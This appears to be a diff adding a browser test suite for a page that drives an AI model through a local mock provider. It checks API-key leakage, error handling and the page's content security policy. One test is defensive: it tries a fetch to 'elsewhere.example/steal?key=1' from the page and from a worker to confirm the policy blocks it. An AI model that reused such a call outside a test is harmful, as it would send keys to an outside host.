@@ -1,0 +1,252 @@
+// Live: a real run of the page against a provider on this machine that speaks the real protocols.
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { startProvider } from "../live/provider.mjs";
+import { violations, overflow } from "./everyone.mjs";
+import { languages, read } from "./page.mjs";
+import { site } from "./site.mjs";
+
+const session = site();
+const canary = "sk-canary-0123456789abcdefghij";
+const dialects = ["anthropic", "openAiChat"];
+
+let provider;
+before(async () => {
+  provider = await startProvider();
+});
+after(() => provider.close());
+
+/** What the page asks of the provider of these tests is no trouble. */
+const troubles = (page, url = provider.url) => page.troubles.filter((one) => !one.startsWith(`request: ${url}`) && !/Failed to load resource|net::ERR_|CORS policy/.test(one));
+
+async function setUp(page, { dialect = "anthropic", base = provider.url, key = canary, window = 6000 } = {}) {
+  await page.getByTestId("source-live").click();
+  await page.getByTestId("live-provider").selectOption("other");
+  await page.getByTestId("live-model").fill("scripted");
+  await page.getByTestId("live-base").fill(base);
+  await page.getByTestId("live-dialect").selectOption(dialect);
+  await page.getByTestId("live-key").fill(key);
+  const more = page.getByTestId("live-more");
+  await more.click();
+  await page.getByTestId("live-window").fill(String(window));
+  await page.getByTestId("live-window").blur();
+  await more.click();
+}
+
+const state = (page) => page.getByTestId("live-run").getAttribute("data-state");
+
+async function reaches(page, ...states) {
+  await page.locator(states.map((one) => `[data-testid="live-run"][data-state="${one}"]`).join(",")).waitFor({ timeout: 60_000 });
+  return state(page);
+}
+
+/** Everything that the page, its storage and its address hold as text. */
+function everything(page) {
+  return page.evaluate(async () => {
+    const stores = [localStorage, sessionStorage].map((one) => JSON.stringify({ ...one }));
+    const databases = (await indexedDB.databases?.()) ?? [];
+    const fields = [...document.querySelectorAll("input, textarea")].map((one) => one.value);
+    return [document.documentElement.outerHTML, location.href, JSON.stringify(history.state), ...stores, JSON.stringify(databases), ...fields].join("\n");
+  });
+}
+
+describe("the task is done by a model, in both dialects", () => {
+  for (const dialect of dialects) {
+    test(dialect, async () => {
+      const own = await startProvider({ pause: 1 });
+      const page = await session.open();
+      await setUp(page, { dialect, base: own.url });
+      await page.getByTestId("live-start").click();
+      await page.getByTestId("live-coming").getByText("First I look around").waitFor({ timeout: 20_000 });
+      assert.equal(await reaches(page, "over", "failed"), "over");
+      await page.locator('[data-testid="live-verdict"][data-passed="true"]').waitFor({ timeout: 30_000 });
+
+      const seen = await read(page);
+      assert.ok(seen.compactions >= 1, "the window was compacted");
+      assert.match(seen.answer, /The race is fixed/);
+      assert.match(seen.notes, /None: the race in `updateStatus`/);
+      assert.equal(seen.step, seen.last);
+      const summaries = own.requests.filter(({ body }) => !body.tools);
+      assert.equal(summaries.length, seen.compactions);
+      const restart = own.requests.find(({ body }, i) => i > 0 && own.requests[i - 1] === summaries[0]);
+      assert.match(JSON.stringify(restart.body.messages), /Race condition in `updateStatus`/, "NOTES.md is read back at the restart");
+
+      const header = dialect === "anthropic" ? "x-api-key" : "authorization";
+      for (const { headers, text, url } of own.requests) {
+        assert.equal(headers[header], dialect === "anthropic" ? canary : `Bearer ${canary}`);
+        assert.ok(!text.includes(canary) && !url.includes(canary));
+        assert.equal(Object.values(headers).filter((value) => String(value).includes(canary)).length, 1);
+      }
+
+      // The recording shows the identical screen, step by step, in a browser that knows nothing of it.
+      const screens = async (of) => {
+        const found = [];
+        for (const step of [0, 3, 9, Math.floor(seen.last / 2), seen.last]) {
+          await of.getByTestId("scrubber").fill(String(step));
+          found.push(await of.locator("main").evaluate((main) => main.innerHTML));
+        }
+        return found;
+      };
+      const before = await screens(page);
+      const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("cassette-save").click()]);
+      const file = await download.path();
+      assert.ok(!(await everything(page)).includes(canary), "the key is nowhere in the page");
+      const { readFile } = await import("node:fs/promises");
+      const text = await readFile(file, "utf8");
+      assert.ok(!text.includes(canary) && !text.includes(own.url));
+      const other = await session.open();
+      await other.getByTestId("source-recorded").click();
+      await other.getByTestId("cassette-input").setInputFiles(file);
+      await other.getByTestId("cassette").waitFor();
+      assert.deepEqual(await screens(other), before);
+      assert.deepEqual(other.troubles, []);
+      assert.deepEqual(troubles(page, own.url), []);
+      await other.end();
+
+      // It stays for the tab.
+      await page.reload();
+      await page.getByTestId("source-recorded").click();
+      await page.getByTestId("cassette").waitFor();
+      assert.equal((await read(page)).last, seen.last);
+      await page.end();
+      await own.close();
+    });
+  }
+});
+
+const failures = [
+  ["auth", { status: 401, body: { type: "error", error: { type: "authentication_error", message: `invalid x-api-key ${canary}` } } }],
+  ["billing", { status: 402, body: { type: "error", error: { type: "billing_error", message: "no credit" } } }],
+  ["rate", { status: 429, headers: { "retry-after": "90" }, body: { type: "error", error: { type: "rate_limit_error", message: "slow down" } } }],
+  ["overload", { status: 529, body: { type: "error", error: { type: "overloaded_error", message: "busy" } } }, 3],
+  ["server", { status: 500, body: { type: "error", error: { type: "api_error", message: "oops" } } }, 3],
+  ["notFound", { status: 404, body: { type: "error", error: { type: "not_found_error", message: "model" } } }],
+  ["malformed", { status: 200, body: "<html>a proxy says hello</html>", headers: { "content-type": "text/html" } }],
+  ["cut", { cut: true }, 3],
+];
+
+describe("a call that fails says why, loses nothing, and is made again", () => {
+  for (const lang of languages) {
+    test(lang, async () => {
+      const own = await startProvider();
+      const page = await session.open({ lang });
+      await setUp(page, { base: own.url });
+      const messages = new Set();
+      let isFirst = true;
+      for (const [name, fault, times = 1] of failures) {
+        for (let i = 0; i < times; i++) own.faults.push(fault);
+        await page.getByTestId(isFirst ? "live-start" : "live-again").click();
+        isFirst = false;
+        await page.locator(`[data-testid="live-failure"][data-class="${name}"]`).waitFor({ timeout: 30_000 });
+        const told = await page.getByTestId("live-run").innerText();
+        assert.ok(!told.includes(canary), told);
+        messages.add(await page.getByTestId("live-failure").innerText());
+        const { answers } = await page.evaluate(() => JSON.parse(sessionStorage.getItem("secondwind.recordings"))[0].recording);
+        assert.deepEqual(answers, [], `${name}: nothing is recorded`);
+      }
+      assert.equal(messages.size, failures.length, "each has its own words");
+      assert.ok(![...messages].some((one) => one.startsWith("live-failed-")));
+      assert.deepEqual(await violations(page), []);
+      await page.getByTestId("live-again").click();
+      assert.equal(await reaches(page, "over"), "over");
+      assert.ok(!(await everything(page)).includes(canary));
+      assert.deepEqual(troubles(page, own.url), []);
+      await page.end();
+      await own.close();
+    });
+  }
+});
+
+test("a server that does not allow the page is told from one that is not there", async () => {
+  const closed = await startProvider({ cors: false });
+  const page = await session.open();
+  await setUp(page, { base: closed.url });
+  await page.getByTestId("live-start").click();
+  await page.locator('[data-testid="live-failure"][data-class="cors"]').waitFor({ timeout: 30_000 });
+  await closed.close();
+  await page.end();
+});
+
+test("the run is stopped at any moment, and goes on from where it was", async () => {
+  const own = await startProvider({ pause: 2 });
+  const page = await session.open();
+  await setUp(page, { base: own.url });
+  own.faults.push({ hang: true });
+  await page.getByTestId("live-start").click();
+  await page.locator('[data-testid="live-run"][data-state="calling"]').waitFor();
+  await page.getByTestId("live-stop").click();
+  assert.equal(await reaches(page, "stopped"), "stopped");
+  await page.getByTestId("live-again").click();
+  await page.getByTestId("live-coming").getByText("First I look").waitFor();
+  await page.getByTestId("live-stop").click();
+  assert.equal(await reaches(page, "stopped"), "stopped");
+  const answers = () => page.evaluate(() => JSON.parse(sessionStorage.getItem("secondwind.recordings"))[0].recording.answers.length);
+  assert.equal(await answers(), 0);
+  await page.end();
+  await own.close();
+});
+
+test("each call can wait for a word, and none goes over the limits", async () => {
+  const own = await startProvider();
+  const page = await session.open();
+  await setUp(page, { base: own.url });
+  await page.getByTestId("live-asks").check();
+  await page.getByTestId("live-start").click();
+  assert.equal(await reaches(page, "asking"), "asking");
+  assert.equal(own.requests.length, 0);
+  await page.getByTestId("live-send").click();
+  await page.waitForFunction(() => document.querySelector('[data-testid="live-run"]')?.textContent.includes("2"));
+  assert.equal(await reaches(page, "asking"), "asking");
+  assert.equal(own.requests.length, 1);
+  await page.end();
+  await own.close();
+});
+
+test("the policy of the page lets no other host be reached", async () => {
+  const page = await session.open();
+  await page.getByTestId("source-live").click();
+  await page.getByTestId("live-provider").selectOption("other");
+  await page.getByTestId("live-base").fill("https://elsewhere.example");
+  await page.getByTestId("live-model").fill("m");
+  await page.getByTestId("live-start").click();
+  await page.locator('[data-testid="live-bad"][data-key="live-bad-host"]').waitFor();
+  const blocked = await page.evaluate(async () => {
+    const told = new Promise((resolve) => document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective)));
+    await fetch("https://elsewhere.example/steal?key=1").catch(() => {});
+    return told;
+  });
+  assert.equal(blocked, "connect-src");
+  // The worker that holds a key is held by the same policy.
+  const fromWorker = await page.evaluate(() => {
+    const code = 'fetch("https://elsewhere.example/steal").then(() => postMessage("reached"), () => postMessage("blocked"))';
+    const policy = { createScriptURL: (url) => url };
+    const url = URL.createObjectURL(new Blob([code]));
+    try {
+      const worker = new Worker(globalThis.trustedTypes.createPolicy("other", policy).createScriptURL(url));
+      return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
+    } catch {
+      return "refused";
+    }
+  });
+  assert.notEqual(fromWorker, "reached");
+  await page.end();
+});
+
+describe("the live view stands in every width, theme and language", () => {
+  for (const [i, lang] of languages.entries()) {
+    test(lang, async () => {
+      const page = await session.open({ lang, width: [320, 768, 1440][i], theme: i % 2 === 0 ? "light" : "dark" });
+      await page.getByTestId("source-live").click();
+      await page.getByTestId("live-more").click();
+      await page.getByTestId("live-start").click();
+      await page.getByTestId("live-bad").first().waitFor();
+      assert.deepEqual(await violations(page), []);
+      assert.deepEqual(await overflow(page), []);
+      await page.getByTestId("source-recorded").click();
+      assert.deepEqual(await violations(page), []);
+      assert.deepEqual(await overflow(page), []);
+      assert.deepEqual(page.troubles, []);
+      await page.end();
+    });
+  }
+});
